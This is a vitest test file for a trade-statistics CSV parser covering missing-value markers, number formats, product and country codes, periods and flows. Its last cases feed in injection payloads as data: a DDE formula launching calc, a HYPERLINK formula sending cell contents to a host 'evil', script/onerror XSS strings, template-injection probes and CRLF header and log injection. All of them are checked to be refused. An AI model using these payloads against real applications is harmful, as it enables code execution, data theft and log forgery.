import { expect, test } from 'vitest'
import { HEADER as H, observationsOf, problemsOf, readAll, row, type RowCells } from './reading'

/** One row a cell, each with a month of its own. */
const rows = (column: keyof RowCells, values: readonly string[]): string =>
  H + values.map((value, i) => row({ period: `2024-${String(i + 1).padStart(2, '0')}`, [column]: value })).join('')

interface HostileCase {
  readonly file: string
  /** Every problem as `CODE@line:column`. */
  readonly problems: readonly string[]
  /** What is read all the same: value and status, or the area, by the case. */
  readonly read: readonly string[]
  readonly show?: (observation: ReturnType<typeof observationsOf>[number]) => string
}

const NO_VALUE = (count: number): string[] => Array.from({ length: count }, (_, i) => `W_NO_VALUE@${i + 2}:value`)

const CASES: Readonly<Record<string, HostileCase>> = {
  'what databases write for nothing is said to be no value, an empty cell needs no word; neither is zero': {
    file: rows('value', ['\\N', '""']),
    problems: NO_VALUE(1),
    read: ['null M', 'null M'],
  },
  'the marks of statistical offices are missing or confidential, each counted': {
    file: rows('value', ['-', '..', ':', 'n/a', 'NULL', 'c', 'x']),
    problems: NO_VALUE(7),
    read: ['null M', 'null M', 'null M', 'null M', 'null M', 'null C', 'null M'],
  },
  'the words for nothing and for secrets in six languages': {
    file: rows('value', ['--', 'k.A.', 'n.d.', 'н/д', 'нет данных', 'geheim', 'conf.', '(c)']),
    problems: NO_VALUE(8),
    read: [...Array.from({ length: 5 }, () => 'null M'), 'null C', 'null C', 'null C'],
  },
  'a number in words, with a flag, a currency, per cent or an error of a spreadsheet is refused': {
    file: rows('value', ['zero', '12*', '€12', '12 EUR', 'USD 12', '12%', '#REF!', '1.2E+07']),
    problems: Array.from({ length: 8 }, (_, i) => `E_NUMBER@${i + 2}:value`),
    read: [],
  },
  'nothing below zero is left of a negative zero': {
    file: rows('value', ['-0', '-0.00']),
    problems: [],
    read: ['0 A', '0.00 A'],
  },
  'blanks of every width and Indian groups part thousands, Arabic digits count': {
    file: rows('value', ['1\u00a0234.5', '1\u202f234.5', '1\u2009234.5', '"12,34,567.50"', '١٢٣٫٥']),
    problems: [],
    read: ['1234.5 A', '1234.5 A', '1234.5 A', '1234567.50 A', '123.5 A'],
  },
  'codes with stops, blanks, HS or their label are the code; what a spreadsheet made of one is refused': {
    file: rows('sector', [
      '87.03',
      '87.03.21',
      '8703.21',
      '87 03 21',
      'HS 8703',
      '8703 - Motor cars',
      '87: Vehicles',
      '8703.0',
    ]),
    problems: ['E_PRODUCT@9:sector'],
    read: ['8703', '870321', '870321', '870321', '8703', '8703', '87'],
    show: ({ product }) => product,
  },
  'the union by its many names, and groups of nowhere': {
    file: rows('partner', ['EU (27 countries)', 'EU27 (from 2020)', 'European Union (27)', '_X', 'W00', 'X1 ']),
    problems: Array.from({ length: 6 }, (_, i) => `W_AGGREGATE@${i + 2}:partner`),
    read: ['EU27_2020', 'EU27_2020', 'EU27_2020', '_X', 'WLD', 'X1'],
    show: ({ partner }) => partner,
  },
  'a negative trade value is refused in each way of writing it, a plus is not': {
    file: rows('value', ['-5', '(5)', '5-', '+5', '\u22125', '- 5']),
    problems: [
      ...['E_NEGATIVE@2:value', 'E_NUMBER@3:value', 'E_NUMBER@4:value', 'E_NEGATIVE@6:value', 'E_NUMBER@7:value'],
    ],
    read: ['5 A'],
  },
  'Swiss apostrophes part thousands, straight and curly': {
    file: rows('value', ["1'234.50", '1\u2019234.50']),
    problems: [],
    read: ['1234.50 A', '1234.50 A'],
  },
  'what is no number, or none that can be kept, is refused': {
    file: rows('value', ['NaN', 'Infinity', '1e400', '1'.repeat(30)]),
    problems: ['E_NUMBER@2:value', 'E_NUMBER@3:value', 'E_NUMBER@4:value', 'E_NUMBER_RANGE@5:value'],
    read: [],
  },
  'eight digits behind the point are kept, not rounded': {
    file: rows('value', ['1.23456789']),
    problems: [],
    read: ['1.23456789 A'],
  },
  'a day of which month or day comes first is not said is asked for': {
    file: H + row({ period: '03/04/2024' }),
    problems: ['E_PERIOD_AMBIGUOUS@2:period'],
    read: [],
  },
  'what a spreadsheet makes of a month is no period': {
    file: H + ['Mar-24', '45352', '1.2024'].map((period) => row({ period })).join(''),
    problems: ['E_PERIOD@2:period', 'E_PERIOD@3:period', 'E_PERIOD@4:period'],
    read: [],
  },
  'a code that lost its leading zero, or became a power of ten, is refused': {
    file: rows('sector', ['101', '1.01E+05']),
    problems: ['E_PRODUCT@2:sector', 'E_PRODUCT@3:sector'],
    read: [],
  },
  'everyday names are aliases and said so, groups are marked, typing errors refused': {
    file: rows('partner', ['UK', 'GB', 'Germny', 'SU', 'XK', 'EU27', 'WLD', '000', '']),
    problems: [
      ...['W_ALIAS@2:partner', 'E_UNKNOWN_COUNTRY@4:partner', 'W_ALIAS@5:partner', 'W_AGGREGATE@7:partner'],
      ...['W_AGGREGATE@8:partner', 'W_AGGREGATE@9:partner', 'E_EMPTY_CELL@10:partner'],
    ],
    read: ['GBR', 'GBR', 'SUN', 'XKX', 'EU27_2020', 'WLD', 'WLD'],
    show: ({ partner }) => partner,
  },
  'a flow is known by its case-blind words, and refused when mistyped': {
    file: rows('flow', ['Export ', 'EXP', 'exprot']),
    problems: ['E_FLOW@4:flow'],
    read: ['X', 'X'],
    show: ({ flow }) => flow,
  },
  'line ends and headers of other protocols in a cell stay in it': {
    file:
      H +
      row({ partner: 'a%0d%0aSet-Cookie:x=1' }) +
      'DEU,"a\r\nFAKE LOG LINE",export,8703,2024-03,1,EUR,A\n' +
      row({ period: '2024-04' }),
    problems: ['E_UNKNOWN_COUNTRY@2:partner', 'E_UNKNOWN_COUNTRY@3:partner'],
    read: ['1234567.89 A'],
  },
  'formulas and markup are names that nobody knows': {
    file:
      H +
      row({ partner: "=cmd|' /C calc'!A0" }) +
      row({ partner: '=HYPERLINK(""http://evil/?""&A1)' }) +
      row({ partner: '<script>alert(1)</script>', status: '<img src=x onerror=alert(1)>' }),
    problems: [
      ...['E_UNKNOWN_COUNTRY@2:partner', 'E_STRAY_QUOTE@3:partner', 'E_UNKNOWN_COUNTRY@4:partner', 'E_STATUS@4:status'],
    ],
    read: [],
  },
  'one date above 12 settles day and month, and then a day is no month': {
    file: H + row({ period: '03/04/2024' }) + row({ period: '13/02/2024' }),
    problems: ['E_PERIOD@2:period', 'E_PERIOD@3:period'],
    read: [],
  },
  'templates of other programs are text': {
    file: H + row({ partner: '{{7*7}}${7*7}<%=7*7%>#{7*7}' }),
    problems: ['E_UNKNOWN_COUNTRY@2:partner'],
    read: [],
  },
}

test.each(Object.entries(CASES))('%s', async (_, { file, problems, read, show }) => {
  const reading = await readAll(file)
  expect(problemsOf(reading)).toEqual(problems)
  expect(observationsOf(reading).map(show ?? (({ value, status }) => `${value} ${status}`))).toEqual(read)
})

test('a refused value says what it may have been: a serial day, a lost zero, a mistyped word', async () => {
  const hints = async (cells: RowCells) =>
    (await readAll(H + row(cells))).rows.flatMap((read) => (read.kind === 'refused' ? read.problems : []))[0]?.params
  expect(await hints({ period: '45352' })).toMatchObject({ suggestion: '2024-03-01' })
  expect(await hints({ sector: '101' })).toMatchObject({ suggestion: '0101' })
  expect(await hints({ partner: 'Germny' })).toMatchObject({ suggestion: 'DEU' })
  expect(await hints({ flow: 'exprot' })).toMatchObject({ suggestion: 'X' })
})
